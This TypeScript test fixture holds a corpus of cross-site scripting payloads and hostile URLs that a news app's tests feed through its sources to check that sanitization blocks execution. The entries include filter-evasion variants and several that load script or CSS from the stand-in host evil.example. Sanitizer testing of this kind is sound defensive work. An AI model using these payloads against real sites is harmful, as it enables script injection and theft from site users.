/**
 * Cross-site scripting payloads fed through every news source (unit tests here, and the
 * browser-level end-to-end test, which serves them from e2e/support/news-fixture-server.ts).
 * Each payload that executes calls `window.__xss(id)` or `alert`, so a page-level hook can tell.
 */
export interface XssPayload {
  id: string;
  html: string;
}

export const XSS_CORPUS: readonly XssPayload[] = [
  { id: "script-tag", html: `<script>window.__xss&&window.__xss("script-tag");alert(1)</script>` },
  { id: "script-src", html: `<script src="https://evil.example/x.js"></script>` },
  { id: "script-upper", html: `<SCRIPT>alert(1)</SCRIPT>` },
  { id: "script-split", html: `<scr<script>ipt>alert(1)</scr</script>ipt>` },
  { id: "img-onerror", html: `<img src=x onerror="window.__xss&&window.__xss('img-onerror')">` },
  { id: "img-onerror-noquote", html: `<img src=x onerror=alert(1)//>` },
  { id: "img-js-src", html: `<img src="javascript:alert(1)">` },
  { id: "svg-onload", html: `<svg onload="window.__xss&&window.__xss('svg-onload')"><circle r="1"/></svg>` },
  { id: "svg-script", html: `<svg><script>alert(1)</script></svg>` },
  { id: "svg-animate", html: `<svg><animate onbegin=alert(1) attributeName=x dur=1s>` },
  { id: "body-onload", html: `<body onload=alert(1)>` },
  { id: "iframe-js", html: `<iframe src="javascript:alert(1)"></iframe>` },
  { id: "iframe-srcdoc", html: `<iframe srcdoc="<script>parent.__xss&&parent.__xss('iframe-srcdoc')</script>"></iframe>` },
  { id: "object-data", html: `<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>` },
  { id: "embed", html: `<embed src="javascript:alert(1)">` },
  { id: "a-js", html: `<a href="javascript:window.__xss&&window.__xss('a-js')">click</a>` },
  { id: "a-js-tab", html: `<a href="java&#x09;script:alert(1)">tab</a>` },
  { id: "a-js-newline", html: `<a href="java&#10;script:alert(1)">newline</a>` },
  { id: "a-js-entities", html: `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">entities</a>` },
  { id: "a-js-upper-space", html: `<a href="  JaVaScRiPt:alert(1)">mixed case</a>` },
  { id: "a-data", html: `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>` },
  { id: "a-vbscript", html: `<a href="vbscript:msgbox(1)">vb</a>` },
  { id: "a-onclick", html: `<a href="https://example.com/" onclick="alert(1)" onmouseover="alert(2)">hover</a>` },
  { id: "p-onmouseover", html: `<p onmouseover="alert(1)" style="position:fixed;inset:0">cover</p>` },
  { id: "style-expression", html: `<div style="width: expression(alert(1))">ie</div>` },
  { id: "style-tag", html: `<style>@import "https://evil.example/x.css"; body{background:url("javascript:alert(1)")}</style>` },
  { id: "link-stylesheet", html: `<link rel="stylesheet" href="javascript:alert(1)">` },
  { id: "meta-refresh", html: `<meta http-equiv="refresh" content="0;url=javascript:alert(1)">` },
  { id: "base-href", html: `<base href="javascript:alert(1)//">` },
  { id: "form-action", html: `<form action="javascript:alert(1)"><button>go</button></form>` },
  { id: "input-autofocus", html: `<input autofocus onfocus=alert(1)>` },
  { id: "details-ontoggle", html: `<details open ontoggle=alert(1)><summary>x</summary></details>` },
  { id: "video-onerror", html: `<video><source onerror="alert(1)"></video>` },
  { id: "math-href", html: `<math><mtext><a href="javascript:alert(1)">m</a></mtext></math>` },
  { id: "unclosed-img", html: `<img src=x onerror=alert(1) ` },
  { id: "unclosed-a", html: `<a href="javascript:alert(1)" title="` },
  { id: "comment-break", html: `<!--<img src="--><img src=x onerror=alert(1)//">` },
  { id: "cdata-break", html: `<![CDATA[<script>alert(1)</script>]]>` },
  { id: "noscript-break", html: `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>` },
  { id: "template", html: `<template><img src=x onerror=alert(1)></template>` },
  { id: "encoded-lt", html: `&lt;script&gt;alert(1)&lt;/script&gt;` },
  { id: "double-encoded", html: `&amp;lt;img src=x onerror=alert(1)&amp;gt;` },
  { id: "attr-breakout", html: `<a href="https://example.com/&quot;onmouseover=&quot;alert(1)">quote</a>` },
  { id: "protocol-relative", html: `<a href="//evil.example/x">proto-relative</a>` },
  { id: "srcset", html: `<img srcset="javascript:alert(1) 1x">` },
  { id: "xlink-href", html: `<svg><a xlink:href="javascript:alert(1)"><text y="20">x</text></a></svg>` },
];

/** URLs that must never survive as an article's link or image. */
export const XSS_URLS: readonly string[] = [
  "javascript:alert(1)",
  " JaVaScRiPt:alert(1)",
  "java\tscript:alert(1)",
  "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
  "data:image/svg+xml,<svg onload=alert(1)>",
  "vbscript:msgbox(1)",
  "//evil.example/x",
  "/\\evil.example/x",
  "\"><script>alert(1)</script>",
];
